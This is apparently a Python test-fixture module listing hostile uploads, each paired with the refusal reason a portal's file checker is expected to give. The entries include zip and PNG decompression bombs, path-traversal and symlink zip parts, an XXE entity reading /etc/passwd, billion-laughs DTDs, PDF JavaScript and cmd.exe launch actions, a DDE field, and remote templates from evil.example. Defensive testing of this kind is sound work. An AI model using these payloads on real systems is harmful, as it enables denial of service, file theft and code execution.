"""Hostile files, each with the one reason why it is not taken. Whoever adds a form with a file sends it these too."""

import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO
from zipfile import ZIP_LZMA, ZipFile, ZipInfo

from PIL import Image

from portal.media.rules import MOST_BYTES
from portal.media.rules import FileRefusal as R
from tests.media import making
from tests.media.making import chunk, docx, docx_parts, odt, package, pdf, picture, png_with, relation, stream


@dataclass(frozen=True)
class HostileFile:
    """A file that must not be taken: what it is, the name it comes under, its content, and the reason that is given."""

    what: str
    name: str
    make: Callable[[], bytes]
    reason: R


def replaced(content: bytes, old: bytes, new: bytes) -> bytes:
    assert old in content
    return content.replace(old, new)


def special(name: str, **told: int) -> ZipInfo:
    info = ZipInfo(name)
    for key, value in told.items():
        setattr(info, key, value)
    return info


def moving(kind: str) -> bytes:
    frames, into = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue")], BytesIO()
    frames[0].save(into, kind, save_all=True, append_images=frames[1:], duration=100)
    return into.getvalue()


def flood(width: int, height: int) -> bytes:
    """A PNG that says it is huge; its points are a bomb of zeros."""
    header = struct.pack(">2L5B", width, height, 8, 2, 0, 0, 0)
    points = zlib.compress(bytes(1_000_000), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", points) + chunk(b"IEND", b"")


def wide_jpeg() -> bytes:
    """A JPEG that says it is 65 000 by 65 000."""
    whole = picture("JPEG")
    place = whole.index(b"\xff\xc0")
    return whole[: place + 5] + struct.pack(">2H", 65_000, 65_000) + whole[place + 9 :]


def packed_objects(content: bytes, told: bytes = b"/Filter /FlateDecode") -> bytes:
    return stream(content, b"/Type /ObjStm /N 1 /First 4 " + told)


def overlapping() -> bytes:
    """A zip with a part that lies inside another: so small bombs become large ones."""
    name, content = b"word/b.xml", b"<b/>"
    sizes = (zlib.crc32(content), len(content), len(content), len(name), 0)
    inner = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 33, *sizes) + name + content
    into = BytesIO()
    with ZipFile(into, "w") as made:
        for part, text in docx_parts().items():
            made.writestr(part, text)
        made.writestr("word/media/a.bmp", inner)
        hidden = special("word/b.xml", CRC=sizes[0], compress_size=4, file_size=4, date_time=(1980, 1, 1, 0, 0, 0))
        hidden.header_offset = made.start_dir - len(inner)
        made.filelist.append(hidden)
    return into.getvalue()


def many_parts_said_to_be_few() -> bytes:
    """A zip whose end says 7 parts, and whose list has 501."""
    whole = bytearray(docx({f"word/{number}.xml": "<a/>" for number in range(494)}))
    assert struct.unpack("<2H", whole[-14:-10]) == (501, 501)
    whole[-14:-10] = struct.pack("<2H", 7, 7)
    return bytes(whole)


def with_gap() -> bytes:
    """A zip with something between its parts and its list."""
    whole = package(docx_parts())
    list_begins = struct.unpack("<L", whole[-6:-2])[0]
    moved = whole[:-6] + struct.pack("<L", list_begins + 1000) + whole[-2:]
    return moved[:list_begins] + b"hidden" + bytes(994) + moved[list_begins:]


def renamed_inside() -> bytes:
    """A zip that calls a part one thing in its list and another where it lies."""
    whole = package(docx_parts() | {"word/a.xml": "<a/>"})
    return whole.replace(b"word/a.xml", b"word/z.exe", 1)


def locked_zip() -> bytes:
    """A zip that says a part is encrypted."""
    whole = bytearray(package(docx_parts()))
    listed = whole.index(b"PK\x01\x02")
    whole[6] |= 1
    whole[listed + 8] |= 1
    return bytes(whole)


def wrong_sum() -> bytes:
    """A zip whose first part is not what its sum says."""
    whole = bytearray(package(docx_parts()))
    listed = whole.index(b"PK\x01\x02")
    whole[listed + 16] ^= 0xFF
    return bytes(whole)


def lying_size() -> bytes:
    """A bomb that says it is small: unpacking stops at what was said, and the sum is wrong."""
    whole = package(docx_parts() | {"word/media/bomb.bmp": bytes(30_000_000)})
    listed = whole.rindex(b"PK\x01\x02", 0, whole.rindex(b"word/media/bomb.bmp"))
    return whole[: listed + 24] + struct.pack("<L", 1000) + whole[listed + 28 :]


LAUGHS = '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><a>&b;</a>'
FETCHED = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
SCRIPT = b"4 0 << /S /JavaScript >>"
JS = b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"
DDE = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\cmd</w:instrText></w:r>'
LISTENER = '<o:event-listeners><s:event-listener s:event-name="dom:load"/></o:event-listeners>'
PROGRAM = b"MZ\x90\x00" + bytes(60)

FILES = [
    # Names and beginnings.
    HostileFile("nothing", "tom.pdf", lambda: b"", R.EMPTY),
    HostileFile("more than 20 MB", "stor.pdf", lambda: pdf() + bytes(MOST_BYTES), R.TOO_LARGE),
    HostileFile("a program", "plan.exe", lambda: PROGRAM, R.WRONG_ENDING),
    HostileFile("a program with two endings", "plan.pdf.exe", lambda: PROGRAM, R.WRONG_ENDING),
    HostileFile("no ending", "plan", pdf, R.WRONG_ENDING),
    HostileFile("an ending alone, hidden behind signs that cannot be seen", "plan.pdf\u202e\u200bexe", pdf, R.WRONG_ENDING),
    HostileFile("a page", "plan.html", lambda: b"<script>alert(1)</script>", R.WRONG_ENDING),
    HostileFile("a drawing with scripts", "kart.svg", lambda: b"<svg onload='alert(1)'/>", R.WRONG_ENDING),
    HostileFile("Word with macros by its name", "brev.docm", docx, R.WRONG_ENDING),
    HostileFile("a program called PDF", "plan.pdf", lambda: PROGRAM, R.NOT_AS_NAMED),
    HostileFile("a page called JPEG", "foto.jpg", lambda: b"<html><script>alert(1)</script>", R.NOT_AS_NAMED),
    HostileFile("a drawing called PNG", "kart.png", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'/>", R.NOT_AS_NAMED),
    HostileFile("a GIF called PNG", "kart.png", lambda: picture("GIF"), R.NOT_AS_NAMED),
    HostileFile("a PNG called JPEG", "foto.jpg", lambda: picture("PNG"), R.NOT_AS_NAMED),
    HostileFile("a TIFF called WebP", "foto.webp", lambda: picture("TIFF"), R.NOT_AS_NAMED),
    HostileFile("FITS, whose reader has no limit, called PNG", "kart.png", lambda: b"SIMPLE  =" + bytes(2880), R.NOT_AS_NAMED),
    HostileFile("a sound in WebP's frame", "foto.webp", lambda: b"RIFF\x24\x00\x00\x00WAVEfmt ", R.NOT_AS_NAMED),
    HostileFile("a PDF called DOCX", "brev.docx", pdf, R.NOT_AS_NAMED),
    HostileFile("Word's old format", "brev.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), R.OLD_WORD),
    # PDF.
    HostileFile("a PDF behind a GIF", "plan.pdf", lambda: picture("GIF") + pdf(), R.NOT_AS_NAMED),
    HostileFile("a PDF that runs a script", "plan.pdf", lambda: pdf(root=JS), R.PDF_ACTIVE),
    HostileFile("the same with its names escaped", "plan.pdf", lambda: pdf(root=b"/OpenAction << /S /J#61vaScr#69pt /J#53 5 0 R >>"), R.PDF_ACTIVE),
    HostileFile("a script in a packed group", "plan.pdf", lambda: pdf(packed_objects(zlib.compress(b"4 0 << /S /JavaScript >>"))), R.PDF_ACTIVE),
    HostileFile("a group that hides what it is", "plan.pdf", lambda: pdf(packed_objects(zlib.compress(SCRIPT), b"/X (1 0 obj) /Filter /FlateDecode")), R.BROKEN),
    HostileFile("a group packed twice, so that it cannot be read", "plan.pdf", lambda: pdf(packed_objects(zlib.compress(SCRIPT.hex().encode()), b"/Filter [/FlateDecode /ASCIIHexDecode]")), R.BROKEN),
    HostileFile("a group that is a bomb", "plan.pdf", lambda: pdf(packed_objects(zlib.compress(bytes(100_000_000), 9))), R.TOO_HEAVY),
    HostileFile("a PDF that starts a program", "plan.pdf", lambda: pdf(root=b"/OpenAction << /S /Launch /F (cmd.exe) >>"), R.PDF_ACTIVE),
    HostileFile("a PDF that carries a file", "plan.pdf", lambda: pdf(stream(PROGRAM, b"/Type /EmbeddedFile")), R.PDF_ACTIVE),
    HostileFile("a PDF that sends its form", "plan.pdf", lambda: pdf(root=b"/AA << /O << /S /SubmitForm >> >>"), R.PDF_ACTIVE),
    HostileFile("a PDF that is locked", "plan.pdf", lambda: pdf(trailer=b"/Encrypt 4 0 R"), R.PDF_LOCKED),
    HostileFile("a PDF and a zip in one", "plan.pdf", lambda: pdf() + package({"a.exe": PROGRAM}), R.MORE_INSIDE),
    HostileFile("a PDF that is cut", "plan.pdf", lambda: pdf()[:200], R.BROKEN),
    HostileFile("a PDF of another number", "plan.pdf", lambda: replaced(pdf(), b"%PDF-1.7", b"%PDF-9.9"), R.BROKEN),
    HostileFile("a PDF whose table is elsewhere", "plan.pdf", lambda: replaced(pdf(), b"startxref\n", b"startxref\n9"), R.BROKEN),
    HostileFile("a PDF without a page", "plan.pdf", lambda: pdf(pages=[b"<< /Type /Catalog >>"]), R.BROKEN),
    # Pictures.
    HostileFile("a PNG that is cut", "kart.png", lambda: picture("PNG")[:60], R.BROKEN),
    HostileFile("a PNG with a wrong sum", "kart.png", lambda: replaced(picture("PNG"), b"IDAT", b"IDAT\0"), R.BROKEN),
    HostileFile("a PNG of 2500 million points", "kart.png", lambda: flood(50_000, 50_000), R.PICTURE_TOO_LARGE),
    HostileFile("a PNG a little larger than allowed", "kart.png", lambda: flood(8_001, 5_000), R.PICTURE_TOO_LARGE),
    HostileFile("a PNG with fewer points than it says", "kart.png", lambda: flood(2_000, 1_000), R.BROKEN),
    HostileFile("a text in a PNG that is a bomb", "kart.png", lambda: png_with(chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(80_000_000), 9))), R.BROKEN),
    HostileFile("a PNG that moves", "kart.png", lambda: moving("PNG"), R.PICTURE_MOVES),
    HostileFile("a JPEG that is cut", "foto.jpg", lambda: picture("JPEG", (400, 300))[:700], R.BROKEN),
    HostileFile("a JPEG of 4225 million points", "foto.jpg", wide_jpeg, R.PICTURE_TOO_LARGE),
    HostileFile("a JPEG's beginning and nothing more", "foto.jpeg", lambda: b"\xff\xd8\xff\xe0", R.BROKEN),
    HostileFile("a WebP that is cut", "foto.webp", lambda: picture("WEBP", (400, 300))[:200], R.BROKEN),
    HostileFile("a WebP that moves", "foto.webp", lambda: moving("WEBP"), R.PICTURE_MOVES),
    # Documents: the zip file.
    HostileFile("a zip file called DOCX", "brev.docx", lambda: package({"a.xml": "<a/>"}), R.NOT_AS_NAMED),
    HostileFile("a zip that is cut", "brev.docx", lambda: docx()[:-30], R.BROKEN),
    HostileFile("a zip with something behind it", "brev.docx", lambda: docx() + b"<script>", R.MORE_INSIDE),
    HostileFile("a zip with a comment", "brev.docx", lambda: package(docx_parts(), comment=b"<script>"), R.MORE_INSIDE),
    HostileFile("a zip with something between its parts", "brev.docx", with_gap, R.MORE_INSIDE),
    HostileFile("a zip behind a program", "brev.docx", lambda: PROGRAM + docx(), R.NOT_AS_NAMED),
    HostileFile("501 parts", "brev.docx", lambda: docx({f"word/{number}.xml": "<a/>" for number in range(494)}), R.TOO_MANY_PARTS),
    HostileFile("501 parts that are said to be 7", "brev.docx", many_parts_said_to_be_few, R.TOO_MANY_PARTS),
    HostileFile("a list of parts that is larger than 1 MB", "brev.docx", lambda: docx({f"word/{number}{'x' * 2200}.xml": "<a/>" for number in range(480)}), R.TOO_MANY_PARTS),
    HostileFile("101 MB unpacked", "brev.docx", lambda: docx({f"word/media/{number}.bmp": bytes(1_000_000) for number in range(106)}), R.TOO_LARGE_INSIDE),
    HostileFile("packed to a thousandth", "brev.docx", lambda: docx({"word/media/a.bmp": bytes(5_000_000)}), R.TOO_TIGHT),
    HostileFile("a bomb that says it is small", "brev.docx", lying_size, R.BROKEN),
    HostileFile("a part that would lie above", "brev.docx", lambda: docx({"../../etc/passwd.xml": "<a/>"}), R.BAD_PATHS),
    HostileFile("a part of the whole disk", "brev.docx", lambda: docx({"/etc/passwd.xml": "<a/>"}), R.BAD_PATHS),
    HostileFile("a part with the other slash", "brev.docx", lambda: docx({"..\\..\\a.xml": "<a/>"}), R.BAD_PATHS),
    HostileFile("a part on another disk", "brev.docx", lambda: docx({"c:/a.xml": "<a/>"}), R.BAD_PATHS),
    HostileFile("a part that is a link", "brev.docx", lambda: package(docx_parts(), (special("word/a.xml", external_attr=0o120777 << 16), b"/etc/passwd")), R.BAD_PATHS),
    HostileFile("two parts of one name", "brev.docx", lambda: docx({"WORD/document.xml": "<a/>"}), R.BAD_PATHS),
    HostileFile("a part that lies inside another", "brev.docx", overlapping, R.BAD_PATHS),
    HostileFile("a part of two names", "brev.docx", renamed_inside, R.BAD_PATHS),
    HostileFile("a part with a wrong sum", "brev.docx", wrong_sum, R.BROKEN),
    HostileFile("a part packed as no document is", "brev.docx", lambda: package(docx_parts(), (special("word/a.xml", compress_type=ZIP_LZMA), b"<a/>")), R.BROKEN),
    HostileFile("a locked zip", "brev.docx", locked_zip, R.LOCKED),
    # Documents: what is inside.
    HostileFile("entities that laugh", "brev.docx", lambda: docx({"word/a.xml": LAUGHS}), R.DTD),
    HostileFile("the same in UTF-16", "brev.docx", lambda: docx({"word/a.xml": LAUGHS.encode("utf-16")}), R.DTD),
    HostileFile("an entity that is fetched", "brev.docx", lambda: docx({"customXml/item1.xml": FETCHED}), R.DTD),
    HostileFile("XML that is not whole", "brev.docx", lambda: docx({"word/a.xml": "<a><b></a>"}), R.BROKEN),
    HostileFile("XML without bottom", "brev.docx", lambda: docx({"word/a.xml": "<a>" * 2000 + "</a>" * 2000}), R.TOO_HEAVY),
    HostileFile("macros", "brev.docx", lambda: docx({"word/vbaProject.bin": b"x"}), R.MACROS),
    HostileFile("macros by the list of kinds", "brev.docx", lambda: docx(types=making.MAIN + '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'), R.MACROS),
    HostileFile("a control that runs", "brev.docx", lambda: docx({"word/activeX/activeX1.xml": "<a/>"}), R.MACROS),
    HostileFile("an object of another program", "brev.docx", lambda: docx({"word/embeddings/oleObject1.bin": b"x"}), R.EMBEDDED),
    HostileFile("a program called a picture", "brev.docx", lambda: docx({"word/media/image2.png": PROGRAM}), R.EMBEDDED),
    HostileFile("a zip in the zip", "brev.docx", lambda: docx({"word/media/a.zip": package({})}), R.EMBEDDED),
    HostileFile("a page taken in as a part", "brev.docx", lambda: docx({"word/_rels/a.xml.rels": relation("aFChunk", "a.htm", outside=False)}), R.EMBEDDED),
    HostileFile("a template from the net", "brev.docx", lambda: docx({"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://evil.example/a.dotm")}), R.FETCHES),
    HostileFile("a picture from another house's server", "brev.docx", lambda: docx({"word/_rels/a.xml.rels": relation("image", "\\\\evil.example\\a.png")}), R.FETCHES),
    HostileFile("a field that asks another program", "brev.docx", lambda: docx(words=f"<w:p>{DDE}</w:p>"), R.FETCHES),
    HostileFile("a spreadsheet called DOCX", "brev.docx", lambda: docx(types=f'<Override PartName="/xl/workbook.xml" ContentType="{XLSX}"/>'), R.NOT_AS_NAMED),
    HostileFile("a DOCX without its text", "brev.docx", lambda: docx(types=making.MAIN.replace("document.xml", "gone.xml")), R.NOT_AS_NAMED),
    HostileFile("a DOCX called ODT", "brev.odt", docx, R.NOT_AS_NAMED),
    HostileFile("a spreadsheet called ODT", "brev.odt", lambda: odt(mimetype="application/vnd.oasis.opendocument.spreadsheet"), R.NOT_AS_NAMED),
    HostileFile("an ODT with Basic", "brev.odt", lambda: odt({"Basic/Standard/script-lc.xml": "<a/>"}), R.MACROS),
    HostileFile("an ODT with Python", "brev.odt", lambda: odt({"Scripts/python/a.py": "import os"}), R.MACROS),
    HostileFile("an ODT that listens", "brev.odt", lambda: odt(words=LISTENER), R.MACROS),
    HostileFile("an ODT that is locked", "brev.odt", lambda: odt({"content.xml": b"\x00noise"}, manifest="<m:file-entry><m:encryption-data/></m:file-entry>"), R.LOCKED),
    HostileFile("an ODT with an object of another program", "brev.odt", lambda: odt(words='<d:object-ole x:href="./Object 1"/>'), R.EMBEDDED),
    HostileFile("an ODT with a picture from the net", "brev.odt", lambda: odt(words='<d:image x:href="https://evil.example/a.png"/>'), R.FETCHES),
    HostileFile("an ODT with a DTD", "brev.odt", lambda: odt({"styles.xml": LAUGHS}), R.DTD),
]  # fmt: skip
